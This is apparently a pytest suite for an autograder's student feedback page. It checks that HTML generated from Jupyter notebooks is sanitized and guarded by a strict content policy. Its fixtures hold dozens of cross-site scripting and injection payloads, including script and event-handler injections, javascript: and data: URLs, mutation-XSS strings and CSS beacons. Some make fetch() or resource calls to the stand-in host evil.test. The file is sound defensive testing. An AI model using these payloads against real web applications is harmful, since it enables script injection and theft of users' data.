"""The feedback page: what a student reads, and that nothing of what they wrote can act there."""

import base64
import json
import time
from html.parser import HTMLParser

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from autograder import feedback, inert, report
from tests.grader import look, made_up
from tests.grader.by_hand import MISTAKE, Course, error

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
RUN = "window.hacked=1;alert(1);fetch('http://evil.test/f')"
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}" width="10" height="10"><script>{RUN}'
    '</script><image href="http://evil.test/svg.png"/><a href="javascript:alert(1)"><rect width="9"'
    ' height="9"/></a><foreignObject><iframe src="http://evil.test/"/></foreignObject></svg>'
)
# ruff: noqa: E501, because an injection is easier to read on one line
INJECTIONS = [
    f"<script>{RUN}</script>",
    '<script src="http://evil.test/x.js"></script>',
    f'<img src="x" onerror="{RUN}">',
    '<img src="http://evil.test/x.png"><img srcset="http://evil.test/y.png 1x">',
    f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName="x"></svg>',
    SVG,
    '<a href="javascript:alert(1)" ping="http://evil.test/p">click</a><a href="//evil.test">x</a>',
    f'<body onload="{RUN}"><details open ontoggle="{RUN}"><summary>x</summary></details>',
    "<style>@import url(http://evil.test/a.css); * {background: url(http://evil.test/b.png)}</style>",
    '<p style="background:url(http://evil.test/c.png);position:fixed;inset:0">over all</p>',
    '<meta http-equiv="refresh" content="0;url=http://evil.test/m">',
    '<base href="http://evil.test/"><link rel="stylesheet" href="http://evil.test/l.css">',
    '<iframe src="http://evil.test/i"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="http://evil.test/o"></object><embed src="http://evil.test/e">',
    f'<form action="http://evil.test/s"><input autofocus onfocus="{RUN}"><button>ok</button></form>',
    '<video src="http://evil.test/v" autoplay poster="http://evil.test/p"></video><audio src="//e/">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    f'onerror={RUN.replace(chr(39), "")}&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<math href="javascript:alert(1)"><maction actiontype="statusline" xlink:href="javascript:1">x',
    "<template><script>alert(1)</script></template><textarea></textarea><script>alert(1)</script>",
    "</div></section></main><h1>Points: 100</h1></body></html><script>alert(1)</script>",
    '<div id="cell-1" class="top" name="cookie" accesskey="x" contenteditable>mine</div>',
    f'<img src="data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()}">',
    f'<img src="data:text/html;base64,{base64.b64encode(b"<script>alert(1)</script>").decode()}">',
    '<table background="http://evil.test/t.png"><td colspan="99999999">wide</td></table>',
    "<xmp><script>alert(1)</script></xmp><plaintext><b>",
]
MARKDOWN = [
    "[link](javascript:alert(1)) [j](JaVaScRiPt:alert(1)) [d](data:text/html,<script>alert(1)</script>)",
    "![picture](http://evil.test/md.png) ![p](javascript:alert(1)) ![svg](data:image/svg+xml;base64,x)",
    "[ref]: http://evil.test/ref 'x\" onmouseover=alert(1)'\n\n[ref] <http://evil.test/auto> ![][ref]",
    r"$\href{javascript:alert(1)}{x}$ $\text{<img src=x onerror=alert(1)>}$ $\unicode{<script>}$",
    "$$\n\\begin{aligned} <script>alert(1)</script> \\end{aligned}\n$$",
    "`<script>alert(1)</script>`\n\n    <script>alert(1)</script>\n\n```html\n<script>\n```\n\n# h1\n##### h5",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
]
TERMINAL = (
    "\x1b]8;;http://evil.test/\x07link\x1b]8;;\x07 \x1b[31mred\x1b[0m\x1b]0;title\x07 \x00\x08"
    "\x1b[999999;1mx\x1b[38;2;1;2;3my \u202egnp.exe\u202c <script>alert(1)</script>"
)


def hostile_cells():
    """Cells with all injections as source, as Markdown and in every kind of output."""
    outputs = [
        new_output("stream", name="stdout", text=TERMINAL + "".join(INJECTIONS)),
        new_output("error", ename="<script>alert(1)</script>", evalue=INJECTIONS[2],
                   traceback=[TERMINAL, *INJECTIONS]),
        new_output("display_data", {"image/svg+xml": SVG, "text/plain": "<svg>"}),
        new_output("display_data", {"application/javascript": RUN}),
        new_output("display_data", {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}}),
        new_output("display_data", {"text/latex": r"$\href{javascript:alert(1)}{x}$<script>"}),
        new_output("display_data", {"image/png": base64.b64encode(b"<script>").decode()}),
        new_output("display_data", {"image/png": '" onerror="alert(1)'}),
        new_output("execute_result", {"text/markdown": "\n\n".join([*MARKDOWN, *INJECTIONS])}),
        *(new_output("display_data", {"text/html": each}) for each in INJECTIONS),
    ]  # fmt: skip
    return [
        new_markdown_cell("\n\n".join([*MARKDOWN, *INJECTIONS]), id="own-1"),
        new_code_cell("\n".join(INJECTIONS), outputs=outputs, id="own-2"),
    ]


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    root = tmp_path_factory.mktemp("course")
    title = "## 2. Root"
    made = Course(root, made_up.SOURCE.replace(title, f"{title} of $x + s$\n\n$$x = \\sqrt{{s}}$$"))
    why = {"manual-why": "Because $r^2 \\ge 0$.\n\n##### So\n\n" + INJECTIONS[0]}
    made.hand_in("anna", {"test-double": error("CheckFailed", MISTAKE)}, why, outputs={
        "code-1": [new_output("display_data", {"image/png": PIXEL, "text/plain": "x"}),
                   new_output("stream", name="stdout", text="line\n" * 40)]})  # fmt: skip
    made.hand_in("berta", manual=2.5, comment="Well <b>put</b>", late=1)
    made.hand_in("mallory", {"test-root": error(INJECTIONS[0], INJECTIONS[2], INJECTIONS)},
                 {"manual-why": "\n\n".join([*INJECTIONS, *MARKDOWN])}, own=hostile_cells(),
                 comment=INJECTIONS[0])  # fmt: skip
    return made


@pytest.fixture(scope="module")
def pages(course):
    notes = {"mallory": ["put back: " + INJECTIONS[0]]}
    return {
        student: feedback.write(course.root, course.assignment, student,
                                notes=notes.get(student, ()))
        for student in ("anna", "berta", "mallory")
    } | {
        "nobody": feedback.write(course.root, course.assignment, "nobody",
                                 problem="the file is empty " + INJECTIONS[0]),
    }  # fmt: skip


@pytest.mark.parametrize("student", ["anna", "berta", "mallory", "nobody"])
def test_a_page_asks_for_nothing_runs_nothing_and_leaves_nobody_out(chromium, pages, student):
    assert look.troubles(chromium, pages[student]) == []


@pytest.mark.parametrize(
    "attack",
    [
        "<script>window.hacked=1</script>",
        '<img src="http://127.0.0.1:9/x.png" alt="x">',
        '<p onclick="alert(1)">x</p>',
        '<a href="javascript:alert(1)">x</a>',
        "<iframe srcdoc='x' title='x'></iframe>",
        '<meta http-equiv="refresh" content="9;url=about:blank">',
        '<p style="background:url(x.png)">x</p>',
    ],
)
def test_a_page_that_is_not_safe_is_found_out(chromium, tmp_path, attack):
    path = tmp_path / "bad.html"
    path.write_text(f"<!DOCTYPE html><title>x</title><main>{attack}</main>")
    page = chromium.new_page()
    assert look.watch(page, path)
    page.close()


def test_a_page_that_is_too_wide_or_leaves_somebody_out_is_found_out(chromium, tmp_path):
    path = tmp_path / "bad.html"
    picture = f'<img src="data:image/png;base64,{PIXEL}" style="width:2000px">'
    path.write_text(f"<!DOCTYPE html><title>x</title><main>{picture}</main>")
    found = " ".join(look.troubles(chromium, path))
    assert "too wide at 390" in found and "image-alt" in found


def test_the_page_has_a_policy_that_forbids_everything_else(chromium, pages):
    text = pages["anna"].read_text()
    assert "default-src 'none'; img-src data:; style-src 'unsafe-inline'" in text
    tampered = pages["anna"].with_name("tampered.html")
    attack = f'<script>{RUN}</script><img src="http://evil.test/x.png" onerror="{RUN}"></main>'
    tampered.write_text(text.replace("</main>", attack))
    page = chromium.new_page()
    sent = []
    page.on("requestfinished", lambda request: sent.append(request.url))
    page.goto(tampered.as_uri())
    assert page.evaluate("window.hacked") is None
    assert sent == [tampered.as_uri()]
    page.close()
    tampered.unlink()


def read(chromium, path):
    page = chromium.new_page()
    page.goto(path.as_uri())
    text = page.inner_text("body")
    page.close()
    return text


def test_a_student_reads_points_mistake_and_hint(chromium, pages):
    text = read(chromium, pages["anna"])
    for told in [
        "3 of 5 points", "and 3 points that a person will give", "Wrong in case 1 of 3",
        "double(array([1.0, 2.0, 3.0]))", "array([2.0, 4.0, 6.0])",
        "Hint. You square each entry. Doubling adds it to itself.", "Waits for a person",
        "handed in 2026-01-05 at 10:00 UTC", "40 lines of output",
    ]:  # fmt: skip
        assert told in text, told
    assert "0 of 3" not in text


def test_points_of_a_person_and_their_comment_are_shown(chromium, pages):
    text = read(chromium, pages["berta"])
    assert "6.5 of 8 points" in text and "1 point taken off" in text
    assert "Comment. Well <b>put</b>" in text and "Waits for a person" not in text


def test_a_submission_that_was_refused_has_a_page_with_the_reason(chromium, pages):
    assert "could not be graded. the file is empty" in read(chromium, pages["nobody"])


def test_a_student_without_grades_is_told_so(chromium, course):
    path = feedback.write(course.root, course.assignment, "stranger")
    assert "There are no grades of it." in read(chromium, path)


def test_every_link_leads_to_a_place_on_the_page(chromium, pages):
    page = chromium.new_page()
    page.goto(pages["anna"].as_uri())
    links = page.eval_on_selector_all("a", "links => links.map(a => a.getAttribute('href'))")
    missing = [link for link in links if page.locator(link).count() != 1]
    assert len(links) >= 8 and missing == []
    page.close()


def test_hidden_tests_are_on_no_page(pages):
    for path in pages.values():
        text = path.read_text()
        assert "HIDDEN TESTS" not in text and "x_hidden" not in text and "xlogy" not in text


def test_formulas_are_mathml(chromium, pages):
    page = chromium.new_page()
    page.goto(pages["anna"].as_uri())
    assert page.locator("math msqrt").count() == 1
    assert page.locator("math msup").count() == 1
    page.close()


def test_a_title_and_a_hint_show_their_formulas_and_nothing_that_is_active():
    shown = inert.authored("2. $F_1$ & `x` <b>, for $5")
    assert "<msub><mi>F</mi><mn>1</mn></msub>" in shown
    assert shown.endswith(" &amp; <code>x</code> &lt;b&gt;, for $5")
    assert "javascript" not in inert.authored(r"$\href{javascript:alert(1)}{x}$")


def test_the_same_submission_makes_the_same_bytes(course, pages):
    before = pages["mallory"].read_bytes()
    notes = ["put back: " + INJECTIONS[0]]
    feedback.write(course.root, course.assignment, "mallory", notes=notes)
    assert pages["mallory"].read_bytes() == before


def test_nbgrader_finds_the_page_and_what_it_needs_to_release_it(course):
    graded = course.root / "autograded" / "anna" / "tiny"
    (graded / "timestamp.txt").write_text("2026-01-05 10:00:00 UTC")
    (graded / "submission_secret.txt").write_text("secret")
    path = feedback.write(course.root, course.assignment, "anna")
    assert path == course.root / "feedback" / "anna" / "tiny" / "tiny.html"
    names = ["submission_secret.txt", "timestamp.txt", "tiny.html"]
    assert sorted(each.name for each in path.parent.iterdir()) == names


def test_a_page_takes_little_time(course):
    times = []
    for _ in range(5):
        start = time.perf_counter()
        feedback.write(course.root, course.assignment, "anna")
        times.append(time.perf_counter() - start)
    assert min(times) < 0.2  # 10 ms on an idle machine


def test_a_huge_notebook_makes_a_page_of_bounded_size(course):
    line = "x = 'a long line of text that is printed again and again'\n"
    own = [
        new_code_cell(line * 2_000, id=f"own-{i}",
                      outputs=[new_output("stream", name="stdout", text=line * 5_000)])
        for i in range(60)
    ]  # fmt: skip
    row = report.Row("huge", max=8, status=report.GRADED, total=0)
    row.parts = [report.Part("root", "root", 0, 2)]
    notebook = nbformat.v4.new_notebook(cells=own)
    page = feedback.page(course.assignment, row, notebook)
    assert len(page) < 4_000_000
    assert "characters are left out" in page and "The rest of the notebook is left out" in page


def test_clean_outputs_keep_text_colors_pictures_and_tables():
    table = "<table><thead><tr><th></th><th>a</th></tr></thead></table>"
    outputs = [
        new_output("stream", name="stderr", text="10 %\r100 %\n\x1b[31mred\x1b[0m\x1b[2J\x07"),
        new_output("execute_result", {"text/html": table, "text/plain": "a"}, execution_count=3),
        new_output("display_data", {"image/png": PIXEL, "text/plain": "<Figure>"}),
    ]
    stream, result, picture = feedback.clean_outputs(outputs)
    assert stream == {
        "output_type": "stream", "name": "stderr", "text": "100 %\n\x1b[31mred\x1b[0m",
    }  # fmt: skip
    assert "<td></td><th>a</th>" in result["data"]["text/html"]
    assert result["data"]["text/plain"] == "a" and result["execution_count"] == 3
    assert picture["data"] == {"image/png": PIXEL, "text/plain": "<Figure>"}


class Elements(HTMLParser):
    """The names of elements and attributes in HTML."""

    def __init__(self):
        super().__init__()
        self.tags, self.attributes = set(), set()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {(tag, name) for name, _ in attrs}


def test_clean_outputs_leave_nothing_active_and_are_valid():
    [code] = [cell for cell in hostile_cells() if cell.cell_type == "code"]
    cleaned = feedback.clean_outputs(code.outputs)
    notebook = nbformat.from_dict(
        nbformat.v4.new_notebook(cells=[new_code_cell("", outputs=nbformat.from_dict(cleaned))])
    )
    nbformat.validate(notebook)
    known = {"text/plain", "text/html", "image/png", "image/jpeg"}
    kinds = [set(output["data"]) for output in cleaned if "data" in output]
    assert set.union(*kinds) <= known
    parser = Elements()
    for output in cleaned:
        parser.feed(output.get("data", {}).get("text/html", ""))
    assert parser.tags <= {"p", "b", "div", "span", "code", "pre", "table", "thead", "tbody", "tr",
                           "td", "th", "img", "h3"}  # fmt: skip
    assert parser.attributes == {("img", "src"), ("img", "alt")}
    assert feedback.clean_outputs(cleaned) == cleaned


@pytest.mark.parametrize(
    "output",
    [None, 3, [], {}, {"output_type": "x"}, {"output_type": "stream"}, {"output_type": "error"},
     {"output_type": "display_data"}, {"output_type": "display_data", "data": 3},
     {"output_type": "execute_result", "data": {"image/png": 3, "text/html": {}}},
     {"output_type": "error", "ename": 1, "evalue": None, "traceback": 4},
     {"output_type": "stream", "text": "\ud800", "name": []}],
    ids=str,
)  # fmt: skip
def test_what_is_no_output_raises_nothing(output):
    json.dumps(feedback.clean_outputs([output])).encode()


def test_a_picture_must_be_what_it_says_and_of_a_sane_size():
    assert inert.picture("image/png", PIXEL) == f"data:image/png;base64,{PIXEL}"
    assert inert.picture("image/jpeg", PIXEL) is None
    assert inert.picture("image/gif", PIXEL) is None
    vast = bytearray(base64.b64decode(PIXEL))
    vast[16:20] = (100_000).to_bytes(4, "big")
    assert inert.picture("image/png", base64.b64encode(vast).decode()) is None
    large = base64.b64encode(b"\xff\xd8\xff" + b"x" * inert.PICTURE).decode()
    assert inert.picture("image/jpeg", large) is None


def test_a_large_drawing_stays_a_picture():
    paths = '<path d="M0 0"/>' * 30_000
    svg = f'<svg xmlns="http://www.w3.org/2000/svg">{paths}</svg>'
    [output] = feedback.clean_outputs([new_output("display_data", {"image/svg+xml": svg})])
    shown = output["data"]["text/html"]
    assert shown.startswith('<img src="data:image/svg+xml;base64,') and inert.html(shown) == shown


def test_long_text_keeps_its_beginning_and_end():
    shown = inert.cut("a" * 50_000 + "z" * 50_000)
    assert shown.startswith("aaa") and shown.endswith("zzz")
    assert "80,000 characters are left out" in shown and len(shown) < 21_000


def test_terminal_colors_become_classes_and_other_sequences_vanish():
    assert inert.ansi("\x1b[1;31mbad\x1b[0m <b>") == (
        '<span class="ansi-1 bold">bad</span> &lt;b&gt;'
    )
    assert inert.ansi("\x1b[38;5;28mfor\x1b[39m\x1b[2Kx\x1b]0;t\x07") == "forx"


@pytest.mark.parametrize("tag", ["<div>", "<b>", "<p><i>", "<ul><li>", "<table>", "<a><b>"])
def test_deeply_nested_html_costs_little(tag):
    start = time.perf_counter()
    inert.html(tag * (inert.TAGS // tag.count("<")))
    inert.html(tag * 1_000_000)
    assert time.perf_counter() - start < 1


def test_a_formula_that_cannot_be_read_is_shown_as_it_was_written():
    assert inert.formula(r"\text{<b>}") == (
        '<span class="formula"><code>\\text{&lt;b&gt;}</code></span>'
    )
    assert "<code>" in inert.formula("{" * 2_000)


def test_prices_are_no_formulas():
    assert "math" not in inert.markdown("from $5 to $6")
